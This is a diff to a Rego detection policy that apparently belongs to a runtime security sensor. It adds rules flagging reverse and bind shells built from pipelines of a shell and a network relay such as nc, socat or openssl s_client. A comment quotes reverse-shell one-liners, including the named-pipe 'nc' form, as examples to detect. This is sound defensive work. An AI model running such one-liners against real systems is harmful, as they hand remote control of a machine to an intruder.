@@ -16,6 +16,15 @@
 # relay. A shell with a socket on stdin alone is no finding: libuv
 # (Node.js), socket-activated services and sshd give children socketpairs
 # as stdio every day.
+#
+# Pipelines keep the socket in the relay too: `nc host port | sh`, and the
+# named-pipe form `cat /tmp/f | sh -i 2>&1 | nc host port > /tmp/f`. The
+# sensor joins a pipeline's execs by their pipe (stdin_writer_* and
+# stdout_reader_* on the exec that comes second): a shell or interpreter
+# that runs code from its stdin, with a network relay (nc, ncat, socat,
+# telnet, openssl s_client, ...) feeding that stdin or reading its stdout,
+# is a reverse (or bind) shell. A shell running a script file, or a
+# command string, piped into nc (`sh report.sh | nc host port`) is not.
 package vigil.signatures.reverse_shell
 
 import data.vigil.lib
@@ -54,6 +63,38 @@ reasons contains "shell-from-relay" if {
 	is_shell_or_interpreter(input.args.pathname)
 	parent := object.get(input.process, "ancestors", [])[0]
 	lib.is_process_named(parent, lib.net_relays)
+}
+
+# a relay's end of a pipe and a shell taking code from the other end; the
+# relay is named by comm and argv (openssl only as s_client)
+relay_end(comm, _) if comm in lib.net_relays
+
+relay_end("openssl", argv) if "s_client" in argv
+
+reasons contains "shell-piped-with-relay" if {
+	input.name == "sched_process_exec"
+	lib.reads_program_from_stdin(lib.exec_path, input.args.argv)
+	relay_end(input.args.stdin_writer_comm, object.get(input.args, "stdin_writer_argv", []))
+}
+
+reasons contains "shell-piped-with-relay" if {
+	input.name == "sched_process_exec"
+	lib.reads_program_from_stdin(lib.exec_path, input.args.argv)
+	relay_end(input.args.stdout_reader_comm, object.get(input.args, "stdout_reader_argv", []))
+}
+
+reasons contains "shell-piped-with-relay" if {
+	input.name == "sched_process_exec"
+	relay_end(input.process.comm, input.args.argv)
+	reader := input.args.stdout_reader_comm
+	lib.reads_program_from_stdin(reader, object.get(input.args, "stdout_reader_argv", [reader]))
+}
+
+reasons contains "shell-piped-with-relay" if {
+	input.name == "sched_process_exec"
+	relay_end(input.process.comm, input.args.argv)
+	writer := input.args.stdin_writer_comm
+	lib.reads_program_from_stdin(writer, object.get(input.args, "stdin_writer_argv", [writer]))
 }
 
 is_shell_or_interpreter(path) if lib.is_shell(path)
